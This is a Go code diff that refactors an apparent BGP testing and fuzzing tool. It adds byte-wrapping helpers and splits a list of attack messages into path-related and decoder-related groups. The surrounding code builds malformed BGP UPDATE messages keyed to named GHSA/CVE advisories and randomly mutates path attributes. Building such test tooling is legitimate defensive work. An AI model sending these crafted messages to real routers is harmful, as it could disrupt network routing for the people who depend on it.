@@ -30,6 +30,13 @@ const (
 	AttrPrefixSID        = 40
 )
 
+// low8 is the low octet of n: a one-octet wire field, which an attack may
+// make wrap on purpose.
+func low8(n int) byte { return byte(n & 0xff) } //nolint:gosec // the wrap is the point
+
+// randByte returns a random octet.
+func randByte(r *rand.Rand) byte { return low8(r.IntN(256)) }
+
 // Attr encodes one path attribute: flags, type, length (two octets when
 // flags has FlagExtLen) and value.
 func Attr(flags, typ byte, value []byte) []byte {
@@ -38,7 +45,7 @@ func Attr(flags, typ byte, value []byte) []byte {
 		binary.BigEndian.PutUint16(b[2:], uint16(len(value))) //nolint:gosec // attack values stay small
 		return append(b, value...)
 	}
-	return append([]byte{flags, typ, byte(len(value))}, value...)
+	return append([]byte{flags, typ, low8(len(value))}, value...)
 }
 
 // Origin is a well-formed ORIGIN attribute (0 IGP, 1 EGP, 2 INCOMPLETE).
@@ -46,7 +53,7 @@ func Origin(v byte) []byte { return Attr(FlagTransitive, AttrOrigin, []byte{v}) 
 
 // asSequence encodes one AS_SEQUENCE segment of 4-octet AS numbers.
 func asSequence(asns []uint32) []byte {
-	b := []byte{2, byte(len(asns))}
+	b := []byte{2, low8(len(asns))}
 	for _, a := range asns {
 		b = binary.BigEndian.AppendUint32(b, a)
 	}
@@ -83,7 +90,7 @@ func NLRI(prefixes ...netip.Prefix) []byte {
 	var b []byte
 	for _, p := range prefixes {
 		a := p.Masked().Addr().AsSlice()
-		b = append(b, byte(p.Bits()))
+		b = append(b, low8(p.Bits()))
 		b = append(b, a[:(p.Bits()+7)/8]...)
 	}
 	return b
@@ -151,6 +158,12 @@ func (t Target) Advisories() []Attack {
 	mp4mc = append(mp4mc, nh[:]...)
 	mp4mc = append(mp4mc, 0) // no SNPA
 	mp4mc = append(mp4mc, nlri...)
+	return append(t.pathAdvisories(nlri, mp4mc), t.decoderAdvisories(nlri)...)
+}
+
+// pathAdvisories are the advisories about AS_PATH, AS4_PATH, NEXT_HOP,
+// ORIGIN, unknown attributes and the UPDATE's lengths.
+func (t Target) pathAdvisories(nlri, mp4mc []byte) []Attack {
 	return []Attack{
 		{
 			Name:     "AS4_PATH before AS_PATH, AS_PATH last (ORIGIN, AS4_PATH, NEXT_HOP, AS_PATH)",
@@ -200,6 +213,13 @@ func (t Target) Advisories() []Attack {
 			Advisory: "GHSA-pw7p-7fqv-hpj8 / CVE-2026-37462",
 			Msg:      Message(MsgUpdate, append(updateBody(nil, 3, Origin(0), nil), 0xc0, 0xff, 0, 0xc0, 0xff, 0)),
 		},
+	}
+}
+
+// decoderAdvisories are the advisories about the decoders of optional
+// attributes: IPv6 extended communities, AIGP, Prefix-SID.
+func (t Target) decoderAdvisories(nlri []byte) []Attack {
+	return []Attack{
 		{
 			Name:     "IPv6 address-specific extended community of 6 octets",
 			Advisory: "GHSA-wmvj-f67g-qg4g / CVE-2026-37461",
@@ -241,7 +261,7 @@ func (t Target) Fuzzed(seed uint64, n int) []Attack {
 		return [][]byte{
 			Origin(0), ASPath(t.ASN), NextHop(t.NextHop),
 			Attr(FlagOptional, AttrMED, []byte{0, 0, 0, 10}),
-			Communities(uint32(t.ASN&0xffff)<<16 | 100),
+			Communities((t.ASN&0xffff)<<16 | 100),
 			AS4Path(t.ASN),
 			Attr(FlagOptional|FlagTransitive, AttrLargeCommunity, binary.BigEndian.AppendUint32(binary.BigEndian.AppendUint32(binary.BigEndian.AppendUint32(nil, t.ASN), 1), 2)),
 		}
@@ -276,13 +296,13 @@ func (t Target) Fuzzed(seed uint64, n int) []Attack {
 // mutate applies one random mutation to attrs and says which.
 func mutate(r *rand.Rand, attrs [][]byte) ([][]byte, string) {
 	if len(attrs) == 0 {
-		return [][]byte{Attr(byte(r.IntN(256)), byte(r.IntN(256)), randBytes(r, r.IntN(8)))}, "added a random attribute to none"
+		return [][]byte{Attr(randByte(r), randByte(r), randBytes(r, r.IntN(8)))}, "added a random attribute to none"
 	}
 	i := r.IntN(len(attrs))
 	a := append([]byte(nil), attrs[i]...)
 	if len(a) < 4 {
 		// Cut by an earlier mutation: no header left to change.
-		attrs[i] = Attr(byte(r.IntN(256))&^FlagExtLen, byte(r.IntN(256)), randBytes(r, r.IntN(8)))
+		attrs[i] = Attr(randByte(r)&^FlagExtLen, randByte(r), randBytes(r, r.IntN(8)))
 		return attrs, fmt.Sprintf("attribute %d of %d octets replaced by a random one", i, len(a))
 	}
 	ext := a[0]&FlagExtLen != 0
@@ -296,7 +316,7 @@ func mutate(r *rand.Rand, attrs [][]byte) ([][]byte, string) {
 		attrs[i] = a
 		return attrs, fmt.Sprintf("attribute %d (type %d) length %x", i, a[1], a[2:3])
 	case 1: // the flags
-		a[0] ^= []byte{FlagOptional, FlagTransitive, FlagPartial, FlagExtLen, byte(r.IntN(256))}[r.IntN(5)]
+		a[0] ^= []byte{FlagOptional, FlagTransitive, FlagPartial, FlagExtLen, randByte(r)}[r.IntN(5)]
 		attrs[i] = a
 		return attrs, fmt.Sprintf("attribute %d (type %d) flags %#x", i, a[1], a[0])
 	case 2: // the order
@@ -309,12 +329,12 @@ func mutate(r *rand.Rand, attrs [][]byte) ([][]byte, string) {
 	case 4: // dropped
 		return append(attrs[:i], attrs[i+1:]...), fmt.Sprintf("attribute type %d dropped", a[1])
 	case 5: // the type
-		a[1] = byte(r.IntN(256))
+		a[1] = randByte(r)
 		attrs[i] = a
 		return attrs, fmt.Sprintf("attribute %d type changed to %d", i, a[1])
 	case 6: // value bytes
 		if len(a) > 3 {
-			a[3+r.IntN(len(a)-3)] = byte(r.IntN(256))
+			a[3+r.IntN(len(a)-3)] = randByte(r)
 		}
 		attrs[i] = a
 		return attrs, fmt.Sprintf("attribute %d (type %d) value byte changed", i, a[1])
@@ -322,8 +342,8 @@ func mutate(r *rand.Rand, attrs [][]byte) ([][]byte, string) {
 		attrs[i] = a[:r.IntN(len(a))]
 		return attrs, fmt.Sprintf("attribute %d (type %d) truncated to %d octets", i, a[1], len(attrs[i]))
 	case 8: // a random attribute
-		flags := byte(r.IntN(256)) &^ FlagExtLen
-		na := Attr(flags, byte(r.IntN(256)), randBytes(r, r.IntN(24)))
+		flags := randByte(r) &^ FlagExtLen
+		na := Attr(flags, randByte(r), randBytes(r, r.IntN(24)))
 		return append(attrs, na), fmt.Sprintf("added attribute type %d flags %#x", na[1], na[0])
 	default: // value grown or shrunk, length kept consistent
 		v := a[3:]
@@ -348,14 +368,14 @@ func lengthNear(r *rand.Rand, n int) byte {
 	case 1:
 		return 0xff
 	default:
-		return byte(n + r.IntN(5) - 2)
+		return low8(n + r.IntN(5) - 2)
 	}
 }
 
 func randBytes(r *rand.Rand, n int) []byte {
 	b := make([]byte, n)
 	for i := range b {
-		b[i] = byte(r.IntN(256))
+		b[i] = randByte(r)
 	}
 	return b
 }
